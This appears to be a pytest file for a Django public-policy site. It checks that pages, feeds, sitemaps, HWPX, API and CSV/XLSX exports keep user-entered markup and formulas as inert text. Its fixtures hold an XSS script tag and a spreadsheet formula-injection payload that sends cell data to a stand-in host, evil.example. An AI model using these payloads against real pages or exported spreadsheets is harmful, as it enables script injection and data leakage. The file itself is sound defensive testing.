"""Texts staff paste or citizens type are data everywhere they go out: markup stays text in the
page, feeds, sitemap, HWPX and API; a control character pasted from a word processor (a vertical
tab, an escape) does not stop a feed or a spreadsheet from being written; and a cell that starts
like a formula (= + - @) is never run by the spreadsheet that opens the CSV or XLSX (OWASP)."""

import csv
import io
import json
import zipfile

import pytest
from django.utils import timezone
from lxml import etree
from openpyxl import load_workbook

from tests.factories import (
    DepartmentFactory,
    OfficialFactory,
    OutlineItemFactory,
    PhaseFactory,
    PhaseItemFactory,
    PhaseOfficialFactory,
    PolicyProjectFactory,
    ProjectOfficialFactory,
)

MARKUP = "<script>alert(1)</script> ]]> &amp; & 「끝」"
CONTROLS = "\x01\x08\x0b\x0c\x1b\ufffe"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'


@pytest.fixture
def hostile(db):
    department = DepartmentFactory(name="복지정책과" + CONTROLS)
    project = PolicyProjectFactory(
        registration_number="2024-77", published_at=timezone.now(), department=department,
        title=f"제목 {MARKUP}{CONTROLS}", background=f"배경 {MARKUP}")
    OutlineItemFactory(project=project, text=f"개요 {MARKUP}{CONTROLS}")
    official = OfficialFactory(name="이수정" + CONTROLS, department=department)
    ProjectOfficialFactory(project=project, official=official, role_label="담당" + CONTROLS)
    phase = PhaseFactory(project=project, heading=FORMULA)
    PhaseItemFactory(phase=phase, text=f"항목 {MARKUP}{CONTROLS}")
    PhaseOfficialFactory(phase=phase, official=official, position="@SUM(1+1)" + CONTROLS)
    PolicyProjectFactory(registration_number="2024-78", published_at=timezone.now(),
                         department=department, title="+82 10 1234 5678")
    return {"project": project, "official": official, "department": department}


def body_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("url", ["/feeds/projects/", "/feeds/departments/{department}/",
                                 "/feeds/officials/{official}/"])
def test_feeds_stay_well_formed_and_hold_the_texts(client, hostile, url):
    url = url.format(department=hostile["department"].pk, official=hostile["official"].pk)
    feed = etree.fromstring(body_of(client.get(url)))
    titles = [t.text for t in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(f"2024-77 제목 {MARKUP}" in (title or "") for title in titles)


def test_sitemap_and_hwpx_stay_well_formed(client, hostile):
    etree.fromstring(body_of(client.get("/sitemap.xml")))
    for section in ("sheets", "officials", "years"):
        etree.fromstring(body_of(client.get(f"/sitemap-{section}.xml")))
    archive = zipfile.ZipFile(io.BytesIO(body_of(client.get("/projects/2024-77.hwpx"))))
    section = etree.fromstring(archive.read("Contents/section0.xml"))
    assert f"제목 {MARKUP}" in "".join(section.itertext())


def test_the_page_and_the_api_keep_markup_as_text(client, hostile):
    page = body_of(client.get("/projects/2024-77/")).decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; ]]&gt; &amp;amp; &amp;" in page
    detail = json.loads(body_of(client.get("/api/projects/2024-77/")))
    assert detail["title"] == f"제목 {MARKUP}{CONTROLS}"  # the record as written, JSON-escaped


def test_csv_cells_that_would_start_a_formula_are_neutralised(client, hostile):
    rows = list(csv.reader(io.StringIO(body_of(client.get("/phases.csv")).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    projects = list(csv.reader(io.StringIO(body_of(client.get("/projects.csv")).decode("utf-8-sig"))))
    assert "'+82 10 1234 5678" in [cell for row in projects for cell in row]


@pytest.mark.parametrize("name", ["projects", "phases"])
def test_xlsx_is_written_and_formulas_stay_text(client, hostile, name):
    book = load_workbook(io.BytesIO(body_of(client.get(f"/{name}.xlsx"))))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value]
    assert not any(cell.data_type == "f" for cell in cells)
    values = [cell.value for cell in cells]
    if name == "phases":
        assert FORMULA in values  # as written, shown as text
    else:
        assert f"제목 {MARKUP}" in values and "+82 10 1234 5678" in values
